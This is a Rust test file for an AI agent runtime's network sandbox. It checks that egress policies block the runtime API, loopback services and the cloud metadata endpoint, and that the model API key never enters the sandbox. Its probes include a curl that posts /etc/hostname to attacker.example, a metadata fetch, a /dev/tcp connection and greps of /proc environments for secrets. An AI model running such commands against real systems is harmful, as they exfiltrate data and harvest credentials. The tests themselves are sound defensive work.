//! Network probes under each policy: the runtime's API, PostgreSQL and another loopback service,
//! the metadata and link-local addresses, a host off the allowlist, an allowed destination as
//! the control; and the model key, which must be nowhere in the sandbox.

use pretty_assertions::assert_eq;
use serde_json::json;

use super::{denials, profile, LoopbackService, Probe, Target};

/// The start of every probe that looks for the model key: `$k` is the key, assembled at run time
/// so that no command line holds it, and `$p` the pattern `[R]EAL-KEY`, which matches the key
/// but is not it. The probes of a turn run side by side, so one's `/proc` glob may catch
/// another's grep: grepping for `$p`, never `$k`, keeps the key out of every command line.
const NEEDLE: &str = "k=REAL; k=$k-KEY; p=\"[R]${k#R}\"";

/// curl through the egress proxy explicitly (`NO_PROXY` covers loopback, where the model API
/// is, so plain curl would go direct), printing the status the proxy answered and curl's exit.
fn via_proxy(url: &str) -> String {
    format!(
        "curl -s -m 5 --noproxy '' -x http://127.0.0.1:3128 -o /dev/null -w '%{{http_code}}' {url}; \
         echo \" exit=$?\""
    )
}

/// The same through a CONNECT tunnel: the status of the CONNECT.
fn tunnel(url: &str) -> String {
    format!(
        "curl -s -m 5 -p --noproxy '' -x http://127.0.0.1:3128 -o /dev/null -w '%{{http_connect}}' {url}; \
         echo \" exit=$?\""
    )
}

fn probes(api: u16, allowed: u16, other: u16) -> Vec<Probe> {
    vec![
        Probe::new(
            "runtime API, direct",
            format!(
                "curl -s -m 5 --noproxy '*' -o /dev/null -w '%{{http_code}}' \
                 http://127.0.0.1:{api}/api/sessions; echo \" exit=$?\""
            ),
        ),
        Probe::new(
            "runtime API, through the proxy",
            via_proxy(&format!("http://127.0.0.1:{api}/api/sessions")),
        ),
        Probe::new(
            "runtime API, tunnelled",
            tunnel(&format!("http://127.0.0.1:{api}/healthz")),
        ),
        Probe::new(
            "PostgreSQL, direct",
            "bash -c 'exec 3<>/dev/tcp/127.0.0.1/5432' 2>/dev/null && echo REACHED || echo REFUSED",
        ),
        Probe::new(
            "another loopback service, through the proxy",
            via_proxy(&format!("http://127.0.0.1:{other}/")),
        ),
        Probe::new(
            "cloud metadata, through the proxy",
            via_proxy("http://169.254.169.254/latest/meta-data/"),
        ),
        Probe::new("link-local, tunnelled", tunnel("https://169.254.10.10/")),
        Probe::new(
            "allowed service, through the proxy",
            format!(
                "curl -s -m 5 --noproxy '' -x http://127.0.0.1:3128 -w ' %{{http_code}}' \
                 http://127.0.0.1:{allowed}/ | tail -c 34; echo \" exit=$?\""
            ),
        ),
    ]
}

/// Under every policy the runtime, other loopback services and the metadata address stay out of
/// reach; only the destination the profile allows (and the operator excepted) is reached, and
/// only where the policy lets anything through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_policy_reaches_the_runtime_loopback_services_or_metadata() {
    let allowed = LoopbackService::start("hello from the allowed service").await;
    let other = LoopbackService::start("a loopback service nobody may reach").await;
    let allowed_port = allowed.port;
    let target = Target::start(|config| {
        // The operator opens exactly one loopback destination; the runtime's own port is never
        // opened, even by a range that covers it.
        config.sandbox.egress_allow_private = vec![agent_runtime_egress::AddressException::parse(
            &format!("127.0.0.1:{allowed_port}"),
        )
        .unwrap()];
    })
    .await;
    let api = target.api_port();
    let allow = json!([format!("127.0.0.1:{allowed_port}")]);

    // Each policy, and the reason it refuses by ("" for `open`: the destination's own).
    for (policy, reason) in [
        ("none", "policy_none"),
        ("allowlist", "not_allowlisted"),
        ("open", ""),
    ] {
        let session = target
            .session_with(profile(
                &format!("net-{policy}"),
                json!({"network": {"policy": policy, "allow": allow}}),
            ))
            .await;
        let (out, events) = target
            .run(&session, &probes(api, allowed_port, other.port))
            .await;
        let allowed_result = if policy == "none" {
            "(the network policy is none)\n 403 exit=0"
        } else {
            "hello from the allowed service 200 exit=0"
        };
        let got: Vec<(&str, &str)> = out.iter().map(|(k, v)| (*k, v.as_str())).collect();
        // Sorted by name, as `out` is.
        let want = [
            ("PostgreSQL, direct", "REFUSED"),
            ("allowed service, through the proxy", allowed_result),
            ("another loopback service, through the proxy", "403 exit=0"),
            ("cloud metadata, through the proxy", "403 exit=0"),
            ("link-local, tunnelled", "403 exit=56"),
            ("runtime API, direct", "000 exit=7"),
            ("runtime API, through the proxy", "403 exit=0"),
            ("runtime API, tunnelled", "403 exit=56"),
        ];
        assert_eq!(got, want, "policy {policy}");

        // Each refusal is in the session's log, with the reason the policy gives.
        let denied = denials(&events);
        let reason_of = |host: &str, port: u16| {
            denied
                .iter()
                .find(|(h, p, _)| h == host && *p == port)
                .map(|(_, _, r)| r.clone())
                .unwrap_or_else(|| {
                    panic!("no network_denied for {host}:{port} under {policy}: {denied:?}")
                })
        };
        let expect = |open_reason: &str| {
            if reason.is_empty() {
                open_reason.to_string()
            } else {
                reason.to_string()
            }
        };
        assert_eq!(
            reason_of("127.0.0.1", api),
            expect("runtime_address"),
            "{policy}"
        );
        assert_eq!(
            reason_of("127.0.0.1", other.port),
            expect("loopback"),
            "{policy}"
        );
        assert_eq!(
            reason_of("169.254.169.254", 80),
            expect("metadata"),
            "{policy}"
        );
        assert_eq!(
            reason_of("169.254.10.10", 443),
            expect("link_local"),
            "{policy}"
        );
    }
    assert_eq!(other.connections(), 0, "the loopback service was reached");
    // Reached under allowlist and open, never under none.
    assert_eq!(allowed.connections(), 2);
}

/// A host the allowlist does not name is refused by name, before any lookup or connection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_off_the_allowlist_is_refused_and_reported() {
    let target = Target::start(|_| {}).await;
    let session = target
        .session_with(profile(
            "allowlist-only-registry",
            json!({"network": {"policy": "allowlist", "allow": ["registry.npmjs.org"]}}),
        ))
        .await;
    let (out, events) = target
        .run(
            &session,
            &[
                // The environment's HTTPS_PROXY, as any tool would use it.
                Probe::new(
                    "exfiltrate over https",
                    "curl -s -m 5 -o /dev/null -w '%{http_connect}' -d @/etc/hostname \
                     https://attacker.example/collect; echo \" exit=$?\"",
                ),
                Probe::new(
                    "exfiltrate over http",
                    "curl -s -m 5 -o /dev/null -w '%{http_code}' http://attacker.example:8080/x; \
                     echo \" exit=$?\"",
                ),
            ],
        )
        .await;
    assert_eq!(out["exfiltrate over https"], "403 exit=56");
    assert_eq!(out["exfiltrate over http"], "403 exit=0");
    let attacker: Vec<_> = denials(&events)
        .into_iter()
        .filter(|(host, _, _)| host == "attacker.example")
        .collect();
    assert_eq!(
        attacker,
        vec![
            (
                "attacker.example".to_string(),
                443,
                "not_allowlisted".to_string()
            ),
            (
                "attacker.example".to_string(),
                8080,
                "not_allowlisted".to_string()
            ),
        ]
    );
}

/// The model key is nowhere inside: not in the environment (a placeholder is), not in a file,
/// not in any process's environment or arguments; and the agent's turns still reach the model.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_model_key_never_enters_the_sandbox() {
    let target = Target::start(|_| {}).await;
    let session = target.session_with(profile("keyless", json!({}))).await;
    let needle = NEEDLE;
    let (out, _) = target
        .run(
            &session,
            &[
                Probe::new(
                    "key in the environment",
                    format!("{needle}; env | grep -c \"$p\"; printenv ANTHROPIC_API_KEY | cut -c1-26; printenv ANTHROPIC_BASE_URL"),
                ),
                Probe::new(
                    "key in files",
                    format!("{needle}; grep -rls \"$p\" /home /workspace /tmp /run /opt/agent-runtime /etc | head -3; echo searched"),
                ),
                Probe::new(
                    "key in /proc",
                    format!("{needle}; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c \"$p\""),
                ),
            ],
        )
        .await;
    assert_eq!(
        out["key in the environment"],
        "0\nagent-runtime-placeholder-\nhttp://127.0.0.1:3128"
    );
    assert_eq!(out["key in files"], "searched");
    assert_eq!(out["key in /proc"], "0");
    // And the model was reached with the real key, never the placeholder.
    let requests = target.model.message_requests();
    assert!(!requests.is_empty());
    let real = format!(
        "{} {}",
        agent_runtime_testkit::record::REDACTED,
        agent_runtime_testkit::secret_fingerprint(super::REAL_MODEL_KEY.as_bytes())
    );
    for request in requests {
        assert_eq!(request.header("x-api-key"), Some(real.as_str()));
    }
}

/// The same for the ACP agents: OpenCode (Anthropic API, `x-api-key`) and Codex (OpenAI
/// Responses, `authorization: Bearer`) hold placeholders, and every request they make reaches the
/// model with the real key only.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn acp_agents_never_see_the_model_key() {
    for (setup, header, value) in [
        (
            super::super::agent::Setup::OPENCODE_SQLITE,
            "x-api-key",
            super::REAL_MODEL_KEY.to_string(),
        ),
        (
            super::super::agent::Setup::CODEX_SQLITE,
            "authorization",
            format!("Bearer {}", super::REAL_MODEL_KEY),
        ),
    ] {
        let target = Target::start_agent(setup, |_| {}).await;
        let session = target.session_with(profile("keyless", json!({}))).await;
        let needle = NEEDLE;
        let (out, _) = target
            .run(
                &session,
                &[
                    Probe::new(
                        "key in the environment",
                        format!("{needle}; env | grep -c \"$p\"; env | grep -c agent-runtime-placeholder-"),
                    ),
                    Probe::new(
                        "key in files and /proc",
                        format!("{needle}; grep -rls \"$p\" /home /workspace /tmp /run /etc | head -3; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c \"$p\""),
                    ),
                ],
            )
            .await;
        assert_eq!(out["key in the environment"], "0\n1", "{}", setup.agent);
        assert_eq!(out["key in files and /proc"], "0", "{}", setup.agent);
        let requests = target.model.message_requests();
        assert!(!requests.is_empty(), "{}", setup.agent);
        let real = format!(
            "{} {}",
            agent_runtime_testkit::record::REDACTED,
            agent_runtime_testkit::secret_fingerprint(value.as_bytes())
        );
        for request in requests {
            assert_eq!(
                request.header(header),
                Some(real.as_str()),
                "{}",
                setup.agent
            );
        }
        target.server.shutdown().await;
    }
}
